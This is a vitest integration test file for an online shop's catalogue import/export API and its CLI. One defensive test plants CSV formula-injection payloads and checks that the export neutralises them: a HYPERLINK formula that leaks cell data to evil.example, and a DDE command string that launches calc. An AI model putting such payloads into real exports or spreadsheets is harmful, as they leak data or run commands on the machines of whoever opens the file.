// The catalogue file: who may import and export, the example files imported (and imported again:
// nothing changes), bad files refused whole with each row's line and field, dry runs, the export's
// round trip, the streamed progress, and `npm run catalog` on the same database.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { count, desc, eq, inArray, isNull } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  importLineSchema,
  importRejectionSchema,
  importSummarySchema,
  type ImportBadRow,
} from '../../src/api/schemas/catalog-import.ts';
import { parse as parseCsv } from 'csv-parse/sync';
import { IMPORT_MESSAGES, skuSeenAt, variationSkuSeenAt } from '../../src/lib/catalog-import.ts';
import { productTag } from '../../src/lib/page-tags.ts';
import { PRODUCT_MESSAGES } from '../../src/lib/product-admin.ts';
import { catalogChangesFor } from '../../src/server/api/catalog-changes.ts';
import { auditLog, catalogChanges, products, variations } from '../../src/server/api/db/schema.ts';
import {
  catalogCommand,
  parseCatalogCommand,
  type CatalogIo,
} from '../../scripts/lib/catalog-command.ts';
import { createTestContext, type TestClient, type TestContext } from './harness.ts';
import { staffClient, type TestStaff } from './staff-fixtures.ts';

let ctx: TestContext;
let editor: TestStaff & { client: TestClient };
let folder: string;
const db = () => ctx.database.db;

const EXAMPLE_CSV = readFileSync('docs/catalog-import-example.csv', 'utf8');
const EXAMPLE_JSON = readFileSync('docs/catalog-import-example.json', 'utf8');
const EXAMPLE_SKUS = ['PH-NTH-PHONE3', 'AC-ANK-PRIME26K', 'AC-UGR-NEXODE65'];

const TYPES = { csv: 'text/csv', json: 'application/json' } as const;

function importFile(
  client: TestClient,
  text: string,
  format: keyof typeof TYPES,
  { dryRun = false, stream = false } = {},
) {
  return client.request('POST', `/api/admin/catalog/import${dryRun ? '?dryRun=true' : ''}`, {
    raw: text,
    headers: {
      'Content-Type': TYPES[format],
      ...(stream ? { Accept: 'application/x-ndjson' } : {}),
    },
  });
}

async function exportText(client: TestClient, format: keyof typeof TYPES): Promise<string> {
  const res = await client.get(`/api/admin/catalog/export?format=${format}`);
  expect(res.status).toBe(200);
  expect(res.headers.get('Content-Disposition')).toMatch(/^attachment; filename="catalog-/);
  return typeof res.body === 'string' ? res.body : JSON.stringify(res.body);
}

const productCount = async () => (await db().select({ n: count() }).from(products))[0]!.n;
const auditCount = async () => (await db().select({ n: count() }).from(auditLog))[0]!.n;
const bySku = (skus: string[]) => db().select().from(products).where(inArray(products.sku, skus));

/** The example CSV's lines (the header is line 1; each product's description spans two lines). */
const exampleRows = () => EXAMPLE_CSV.replace(/^\uFEFF/, '').split('\n');

beforeAll(async () => {
  ctx = await createTestContext();
  editor = await staffClient(ctx, 'editor');
  folder = mkdtempSync(path.join(tmpdir(), 'catalog-cli-'));
});
afterAll(async () => {
  await ctx.close();
  rmSync(folder, { recursive: true, force: true });
});

describe('who may import and export', () => {
  it('opens both calls to editors and admins only', async () => {
    const admin = (await staffClient(ctx, 'admin')).client;
    const operator = (await staffClient(ctx, 'operator')).client;
    const customer = ctx.client();
    await customer.signIn();
    const automation = ctx.client();
    automation.accessToken = ctx.config.adminToken;
    const expected: [string, TestClient, number | null][] = [
      ['editor', editor.client, null],
      ['admin', admin, null],
      ['operator', operator, 403],
      ['customer', customer, 403],
      ['ADMIN_TOKEN', automation, 403],
      ['nobody', ctx.client(), 401],
    ];
    for (const [who, client, status] of expected) {
      const imported = await importFile(client, '[]', 'json', { dryRun: true });
      const exported = await client.get('/api/admin/catalog/export?format=json');
      if (status === null) {
        expect(imported.status, who).toBe(422); // an empty file: past the role check
        expect(exported.status, who).toBe(200);
      } else {
        expect([imported.status, exported.status], who).toEqual([status, status]);
      }
    }
  });
});

describe('importing a file', () => {
  it('creates the example products, audited and published; the same catalogue as JSON then changes nothing', async () => {
    const auditBefore = await auditCount();
    const res = await importFile(editor.client, EXAMPLE_CSV, 'csv');
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const summary = importSummarySchema.parse(res.body);
    expect(summary).toMatchObject({
      dryRun: false,
      products: 3,
      created: 3,
      updated: 0,
      unchanged: 0,
    });
    const rows = await bySku(EXAMPLE_SKUS);
    expect(rows.map((p) => p.version)).toEqual([1, 1, 1]);
    const phone = rows.find((p) => p.sku === 'PH-NTH-PHONE3')!;
    expect(phone).toMatchObject({ price: 22_990_000, salePrice: 21_490_000, stock: 49 });
    const phoneVariations = await db()
      .select()
      .from(variations)
      .where(eq(variations.productId, phone.id));
    expect(phoneVariations.map((v) => [v.sku, v.name, v.isDefault]).sort()).toEqual([
      ['PH-NTH-PHONE3-BLK-256', 'Black / 256GB', false],
      ['PH-NTH-PHONE3-BLK-512', 'Black / 512GB', false],
      ['PH-NTH-PHONE3-WHT-256', 'White / 256GB', true],
    ]);
    const entries = await db()
      .select()
      .from(auditLog)
      .orderBy(desc(auditLog.id))
      .limit((await auditCount()) - auditBefore);
    expect(entries.map((e) => [e.action, e.actor]).sort()).toEqual([
      ['catalog.import', editor.email],
      ['product.create', editor.email],
      ['product.create', editor.email],
      ['product.create', editor.email],
    ]);
    const [change] = await db()
      .select()
      .from(catalogChanges)
      .where(eq(catalogChanges.id, summary.change!));
    expect(change!.tags).toEqual(expect.arrayContaining(rows.map((p) => productTag(p.id))));

    const again = await importFile(editor.client, EXAMPLE_JSON, 'json');
    expect(importSummarySchema.parse(again.body)).toMatchObject({
      products: 3,
      created: 0,
      updated: 0,
      unchanged: 3,
      change: null,
    });
    expect((await bySku(EXAMPLE_SKUS)).map((p) => p.version)).toEqual([1, 1, 1]);
    const [last] = await db().select().from(auditLog).orderBy(desc(auditLog.id)).limit(1);
    expect(last).toMatchObject({ action: 'catalog.import', after: { unchanged: 3 } });
    expect(await auditCount()).toBe(auditBefore + 5);
  });

  it('refuses a bad CSV whole: every bad row with its line and column, nothing written', async () => {
    const [seedVariation] = await db().select({ sku: variations.sku }).from(variations).limit(1);
    const header = exampleRows()[0]!;
    const cols = header.split(',');
    const row = (cells: Record<string, string>) => cols.map((c) => cells[c] ?? '').join(',');
    const accessory = {
      name: 'Test cable',
      category: 'accessories',
      brand: 'Anker',
      price: '190000',
      stock: '5',
    };
    const csv = [
      header,
      row({ ...accessory, sku: 'BAD-1', price: '-5' }), // line 2
      row({ ...accessory, sku: 'BAD-2', salePrice: '200000' }), // line 3
      row({ ...accessory, sku: 'GOOD-1' }), // line 4: good, yet not written
      row({ ...accessory, sku: 'BAD-3', category: 'toasters' }), // line 5
      row({ ...accessory, sku: 'BAD-4', stock: 'lots', 'fields.Wireless': 'maybe' }), // line 6
      row({ ...accessory, sku: 'GOOD-1' }).replace('Test cable', 'Test cable 2'), // line 7
      row({
        ...accessory,
        sku: 'BAD-5',
        'variation.sku': seedVariation!.sku,
        'variation.price': '1',
        'variation.stock': '1',
        'variation.isDefault': 'true',
        'variation.size': 'XL',
      }), // line 8
      '',
      row({ ...accessory, sku: 'BAD-6', 'fields.Weight': '12g' }), // line 10 (after an empty line)
    ].join('\n');
    const [before, auditBefore] = [await productCount(), await auditCount()];
    const res = await importFile(editor.client, csv, 'csv');
    expect(res.status).toBe(422);
    const rejection = importRejectionSchema.parse(res.body);
    expect(rejection.message).toBe(IMPORT_MESSAGES.rejected);
    expect(rejection.rows).toEqual<ImportBadRow[]>([
      { line: 2, field: 'price', message: 'Too small: expected number to be >=0' },
      { line: 3, field: 'salePrice', message: PRODUCT_MESSAGES.saleAbovePrice },
      { line: 5, field: 'category', message: PRODUCT_MESSAGES.categoryUnknown },
      { line: 6, field: 'stock', message: IMPORT_MESSAGES.wholeNumber },
      { line: 6, field: 'fields.Wireless', message: IMPORT_MESSAGES.yesNo },
      { line: 7, field: 'sku', message: skuSeenAt(4) },
      { line: 8, field: 'variation.sku', message: PRODUCT_MESSAGES.skuTaken },
      { line: 10, field: 'fields.Weight', message: IMPORT_MESSAGES.number },
    ]);
    expect(rejection.problems).toBe(8);
    expect(rejection.errors['line 2: price']).toBe('Too small: expected number to be >=0');
    expect([await productCount(), await auditCount()]).toEqual([before, auditBefore]);
    expect(await bySku(['GOOD-1'])).toEqual([]);
  });

  it('refuses a bad JSON file with each product’s position and field', async () => {
    const good = JSON.parse(EXAMPLE_JSON)[2];
    const file = JSON.stringify([
      { ...good, sku: 'JSON-1' },
      { ...good, sku: 'JSON-2', colour: 'red' },
      { ...good, sku: 'JSON-3', price: '890000', variations: [{ sku: 'JSON-3-A' }] },
    ]);
    const res = await importFile(editor.client, file, 'json');
    expect(res.status).toBe(422);
    const rows = importRejectionSchema.parse(res.body).rows;
    expect(rows.slice(0, 2)).toEqual([
      { line: 2, field: 'colour', message: 'Unknown field' },
      { line: 3, field: 'price', message: 'Invalid input: expected number, received string' },
    ]);
    expect(rows.slice(2).every((r) => r.line === 3 && r.field.startsWith('variations.0.'))).toBe(
      true,
    );
    expect(await bySku(['JSON-1'])).toEqual([]);
  });

  it('refuses a variation SKU that another product of the file already gave, naming its line', async () => {
    const [first, second] = [0, 1].map((n) => ({
      ...JSON.parse(EXAMPLE_JSON)[0],
      sku: `TWIN-${n}`,
    }));
    // The second product's first variation takes the first product's second variation's SKU.
    const taken = first.variations[1].sku;
    const file = [
      {
        ...first,
        variations: first.variations.map((v: object, i: number) => ({ ...v, sku: `TWIN-0-${i}` })),
      },
      {
        ...second,
        variations: second.variations.map((v: object, i: number) => ({
          ...v,
          sku: i === 0 ? 'TWIN-0-1' : `TWIN-1-${i}`,
        })),
      },
    ];
    expect(taken).toBeTruthy();
    const res = await importFile(editor.client, JSON.stringify(file), 'json');
    expect(res.status).toBe(422);
    expect(importRejectionSchema.parse(res.body).rows).toEqual([
      { line: 2, field: 'variations.0.sku', message: variationSkuSeenAt(1) },
    ]);
    expect(await bySku(['TWIN-0', 'TWIN-1'])).toEqual([]);
  });

  it('refuses what is not a catalogue file', async () => {
    const plain = await editor.client.request('POST', '/api/admin/catalog/import', {
      raw: 'sku\n',
      headers: { 'Content-Type': 'text/plain' },
    });
    expect(plain.status).toBe(415);
    expect(plain.body.message).toBe(IMPORT_MESSAGES.formatRequired);
    const header = exampleRows()[0]!.replace('brand', 'maker');
    const columns = importRejectionSchema.parse(
      (await importFile(editor.client, header, 'csv')).body,
    );
    expect(columns.rows).toEqual([
      { line: 1, field: 'maker', message: IMPORT_MESSAGES.unknownColumn },
      { line: 1, field: 'brand', message: IMPORT_MESSAGES.missingColumn },
    ]);
    const object = await importFile(editor.client, '{"sku":"X"}', 'json');
    expect(importRejectionSchema.parse(object.body).rows[0]!.message).toBe(
      IMPORT_MESSAGES.notJsonArray,
    );
    const cut = await importFile(editor.client, EXAMPLE_JSON.slice(0, 400), 'json');
    expect(importRejectionSchema.parse(cut.body).rows[0]!.message).toMatch(
      /^The file is not valid JSON/,
    );
  });

  it('checks a file on a dry run, the database’s rules too, and writes nothing', async () => {
    const [seed] = await db()
      .select()
      .from(products)
      .where(eq(products.hasVariations, false))
      .limit(1);
    const exported = JSON.parse(await exportText(editor.client, 'json')) as { sku: string }[];
    const changed = { ...exported.find((p) => p.sku === seed!.sku)!, price: seed!.price + 1000 };
    const fresh = { ...JSON.parse(EXAMPLE_JSON)[2], sku: 'DRY-1' };
    const [before, auditBefore] = [await productCount(), await auditCount()];
    const res = await importFile(editor.client, JSON.stringify([changed, fresh]), 'json', {
      dryRun: true,
    });
    expect(importSummarySchema.parse(res.body)).toEqual({
      dryRun: true,
      products: 2,
      created: 1,
      updated: 1,
      unchanged: 0,
      change: null,
    });
    expect([await productCount(), await auditCount()]).toEqual([before, auditBefore]);
    const [after] = await db().select().from(products).where(eq(products.id, seed!.id));
    expect([after!.price, after!.version]).toEqual([seed!.price, seed!.version]);
  });

  it('streams its progress and ends with the result', async () => {
    const res = await importFile(editor.client, EXAMPLE_JSON, 'json', {
      dryRun: true,
      stream: true,
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('Content-Type')).toMatch(/^application\/x-ndjson/);
    const lines = String(res.body)
      .trim()
      .split('\n')
      .map((line) => importLineSchema.parse(JSON.parse(line)));
    expect(lines[0]).toEqual({ progress: { phase: 'check', done: 0, total: 3 } });
    expect(lines.at(-2)).toEqual({ progress: { phase: 'check', done: 3, total: 3 } });
    expect(lines.at(-1)).toMatchObject({ summary: { dryRun: true, unchanged: 3 } });
  });
});

describe('exporting the catalogue', () => {
  it('exports CSV that imports back with no change, and exports the same again', async () => {
    const csv = await exportText(editor.client, 'csv');
    expect(csv.startsWith('sku,name,category,brand,')).toBe(true);
    const raw = await ctx.app.request('/api/admin/catalog/export?format=csv', {
      headers: { Authorization: `Bearer ${editor.client.accessToken}` },
    });
    // A byte-order mark first, so spreadsheets read the file as UTF-8.
    expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const onSale = (
      await db().select({ n: count() }).from(products).where(isNull(products.archivedAt))
    )[0]!.n;
    const res = await importFile(editor.client, csv, 'csv');
    expect(importSummarySchema.parse(res.body)).toMatchObject({
      products: onSale,
      created: 0,
      updated: 0,
      unchanged: onSale,
    });
    expect(await exportText(editor.client, 'csv')).toBe(csv);
  });
});

describe('formulas in the CSV export', () => {
  const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")';
  /** A column a number is written in: a minus there is a number's (`-5`), not a formula. */
  const NUMBER_COLUMN =
    /^(?:price|salePrice|stock|variation\.(?:price|salePrice|stock)|fields\.(?:Weight|Screen Size|Battery|Camera|RAM|Storage|Refresh Rate))$/;

  it('are written as text a spreadsheet shows and does not run, and import back as they were', async () => {
    const product = {
      ...JSON.parse(EXAMPLE_JSON)[2],
      sku: 'FORMULA-1',
      name: HYPERLINK,
      brand: '+Anker',
      shortDescription: '@SUM(A1:A9)',
      description: '\t=1+1\r\n-2',
      criteria: ['-Budget', "'=quoted"],
      fields: { Type: "=cmd|' /C calc'!A0", Connectivity: '+84 912 345 678', Weight: -5 },
    };
    const res = await importFile(editor.client, JSON.stringify([product]), 'json');
    expect(res.status, JSON.stringify(res.body)).toBe(200);

    const csv = await exportText(editor.client, 'csv');
    const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''), {
      relax_column_count: true,
    }) as string[][];
    const live = rows.flatMap((cells) =>
      cells
        .map((cell, i) => [header![i]!, cell] as const)
        .filter(
          ([column, cell]) =>
            /^[=+\-@\t\r]/.test(cell) &&
            !(NUMBER_COLUMN.test(column) && String(Number(cell)) === cell),
        ),
    );
    expect(live).toEqual([]);
    const mine = rows.find((cells) => cells[0] === 'FORMULA-1')!;
    const cell = (column: string) => mine[header!.indexOf(column)];
    expect(cell('name')).toBe(`'${HYPERLINK}`);
    expect(cell('criteria')).toBe("'-Budget|'=quoted");
    expect(cell('fields.Weight')).toBe('-5');

    const again = await importFile(editor.client, csv, 'csv');
    expect(importSummarySchema.parse(again.body)).toMatchObject({ created: 0, updated: 0 });
    const [stored] = await bySku(['FORMULA-1']);
    expect(stored).toMatchObject({
      name: HYPERLINK,
      brand: '+Anker',
      description: '\t=1+1\r\n-2',
      criteria: ['-Budget', "'=quoted"],
      fields: { Type: "=cmd|' /C calc'!A0", Connectivity: '+84 912 345 678', Weight: -5 },
      version: 1,
    });
  });
});

describe('npm run catalog', () => {
  const run = async (...argv: string[]) => {
    const io = { out: '', err: '' };
    const sink: CatalogIo = {
      out: (text) => (io.out += text),
      err: (text) => (io.err += text),
      tty: false,
    };
    const deps = { db: db(), now: () => new Date(), catalogChanges: catalogChangesFor() };
    const code = await catalogCommand(parseCatalogCommand(argv), deps, sink);
    return { code, ...io };
  };

  it('exports JSON and imports it back unchanged, audited as cli', async () => {
    const file = path.join(folder, 'catalog.json');
    const exported = await run('export', file);
    expect(exported.code).toBe(0);
    const total = (JSON.parse(readFileSync(file, 'utf8')) as unknown[]).length;
    expect(exported.out).toBe(`Exported ${total.toLocaleString('en-US')} products to ${file}.\n`);
    const imported = await run('import', file);
    expect(imported.code).toBe(0);
    expect(imported.out).toMatch(/; 0 created, 0 updated, \d+ unchanged\.\n$/);
    expect(imported.err).toMatch(/^Checking: 0% \(0 of \d+ products\)\n/);
    expect(imported.err).toMatch(/\nChecking: 100% [^]*\nImporting: 0% [^]*\nImporting: 100% /);
    const [last] = await db().select().from(auditLog).orderBy(desc(auditLog.id)).limit(1);
    expect(last).toMatchObject({ actor: 'cli', action: 'catalog.import' });
  });

  it('lists every bad row and exits 1 on a refused file, writing nothing', async () => {
    const file = path.join(folder, 'bad.csv');
    const lines = exampleRows();
    writeFileSync(
      file,
      [lines[0], ...lines.slice(1).map((l) => l.replace('22990000', '-1'))].join('\n'),
    );
    const before = await productCount();
    const result = await run('import', file);
    expect(result.code).toBe(1);
    expect(result.err).toContain(
      [
        `${file} was not imported (nothing was written): 3 problem(s).`,
        '  line 2, variation.price: Too small: expected number to be >=0',
        '  line 2, variation.salePrice: Sale price must not be above the price',
        '  line 3, variation.price: Too small: expected number to be >=0',
      ].join('\n'),
    );
    expect(await productCount()).toBe(before);
    expect(() => parseCatalogCommand(['import', 'catalog.xlsx'])).toThrow(/^Usage:/);
  });
});
